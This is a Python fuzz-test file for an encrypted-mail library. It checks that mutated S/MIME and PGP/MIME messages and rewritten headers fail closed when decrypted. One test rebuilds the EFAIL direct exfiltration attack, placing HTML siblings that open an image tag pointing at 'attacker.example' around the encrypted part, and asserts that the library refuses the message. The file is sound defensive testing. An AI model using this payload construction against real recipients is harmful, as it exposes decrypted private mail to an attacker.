"""Fuzzing S/MIME (RFC 8551) and PGP/MIME (RFC 3156) mails.

Serialized encrypted mails are mutated as text (flips, cuts, line duplication and
removal, header rewrites) and structurally (the encrypted part replaced by a mutated
envelope, the encrypted part nested beside plaintext siblings). decrypt_message either
raises an e2ee_mail.Error or gives back the original body.
"""

from __future__ import annotations

import pytest
import strategies as s
from hypothesis import given, settings
from hypothesis import strategies as st

import e2ee_mail

MAILS = sorted(s.mails())


def _open_body(wire: bytes, key: e2ee_mail.SecretKey) -> bytes:
    msg = e2ee_mail.decrypt_message(wire, key)
    return s.mail_body(msg).encode()


@pytest.mark.parametrize("name", MAILS)
def test_valid_mail_opens(name: str) -> None:
    wire, key = s.mails()[name]
    msg = e2ee_mail.decrypt_message(wire, key)
    assert msg["Subject"] == s.SUBJECT
    assert s.check_outcome("mime", lambda: _open_body(wire, key), s.BODY_TEXT.encode())


@pytest.mark.parametrize("name", MAILS)
@settings(max_examples=s.examples(60))
@given(data=st.data())
def test_mutated_mail_text_fails_closed(name: str, data: st.DataObject) -> None:
    wire, key = s.mails()[name]
    _, mutated = data.draw(s.text_mutation(wire), label="mutation")
    s.check_outcome("mime", lambda: _open_body(mutated, key), s.BODY_TEXT.encode())


_HEADER_SWAPS = [
    (b"smime-type=authEnveloped-data", b"smime-type=enveloped-data"),
    (b"application/pkcs7-mime", b"application/pkcs7-signature"),
    (b"application/pkcs7-mime", b"application/x-pkcs7-mime"),
    (b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: 8bit"),
    (
        b"Content-Transfer-Encoding: base64",
        b"Content-Transfer-Encoding: quoted-printable",
    ),
    (b"multipart/encrypted", b"multipart/mixed"),
    (b"application/pgp-encrypted", b"application/octet-stream"),
    (b'protocol="application/pgp-encrypted"', b'protocol="application/pkcs7-mime"'),
    (b"Version: 1", b"Version: 2"),
    (b"boundary=", b"boundary=x"),
]


@pytest.mark.parametrize("name", MAILS)
@pytest.mark.parametrize("swap", _HEADER_SWAPS, ids=lambda t: t[1].decode()[:24])
def test_rewritten_mime_headers_fail_closed(
    name: str, swap: tuple[bytes, bytes]
) -> None:
    wire, key = s.mails()[name]
    mutated = wire.replace(*swap)
    s.check_outcome("mime", lambda: _open_body(mutated, key), s.BODY_TEXT.encode())


def _replace_payload(wire: bytes, old_b64: bytes, new_b64: bytes) -> bytes:
    assert old_b64 in wire
    return wire.replace(old_b64, new_b64)


@settings(max_examples=s.examples(60))
@given(data=st.data())
def test_mutated_envelope_inside_a_smime_mail_fails_closed(data: st.DataObject) -> None:
    import base64
    import email

    wire, key = s.mails()["smime-x25519"]
    msg = email.message_from_bytes(wire)
    payload = msg.get_payload()
    assert isinstance(payload, str)
    der = base64.b64decode(payload)
    _, mutated = data.draw(s.der_mutation(der), label="mutation")
    new = base64.encodebytes(mutated).replace(b"\n", b"\r\n")
    head, _, _ = wire.partition(b"\r\n\r\n")
    s.check_outcome(
        "mime", lambda: _open_body(head + b"\r\n\r\n" + new, key), s.BODY_TEXT.encode()
    )


@settings(max_examples=s.examples(60))
@given(data=st.data())
def test_mutated_envelope_inside_a_pgpmime_mail_fails_closed(
    data: st.DataObject,
) -> None:
    from e2ee_mail.openpgp import armor

    wire, key = s.mails()["pgpmime-v6"]
    start = wire.index(b"-----BEGIN PGP MESSAGE-----")
    end = wire.index(b"-----END PGP MESSAGE-----") + len(b"-----END PGP MESSAGE-----")
    _, binary = armor.dearmor(wire[start:end])
    _, mutated = data.draw(s.pgp_mutation(binary), label="mutation")
    new = bytes(armor.enarmor(mutated)).rstrip(b"\n").replace(b"\n", b"\r\n")
    s.check_outcome(
        "mime",
        lambda: _open_body(wire[:start] + new + wire[end:], key),
        s.BODY_TEXT.encode(),
    )


@pytest.mark.parametrize("name", MAILS)
@settings(max_examples=s.examples(20))
@given(data=st.data())
def test_encrypted_part_among_plaintext_siblings_is_refused(
    name: str, data: st.DataObject
) -> None:
    """EFAIL direct exfiltration: the encrypted entity wrapped in multipart/mixed
    with attacker-chosen plaintext siblings before and/or after it."""
    from email import message_from_bytes, policy
    from email.message import EmailMessage

    wire, key = s.mails()[name]
    encrypted = message_from_bytes(wire, policy=policy.default)
    outer = EmailMessage()
    outer["From"] = "Mallory <m@example.org>"
    outer["To"] = "Bob <bob@example.org>"
    outer["Subject"] = "Re: hi"
    outer.make_mixed()
    before = data.draw(st.integers(0, 2))
    after = data.draw(st.integers(0 if before else 1, 2))
    for _ in range(before):
        outer.attach(_html('<img src="http://attacker.example/'))
    outer.attach(encrypted)  # type: ignore[arg-type]
    for _ in range(after):
        outer.attach(_html('">'))
    from e2ee_mail.mime.detect import serialize

    mutated = serialize(outer)
    outcome = s.check_outcome("mime", lambda: _open_body(mutated, key), b"")
    assert outcome == "MIMEError"


def _html(text: str) -> object:
    from email.message import EmailMessage

    part = EmailMessage()
    part.set_content(text, subtype="html")
    return part
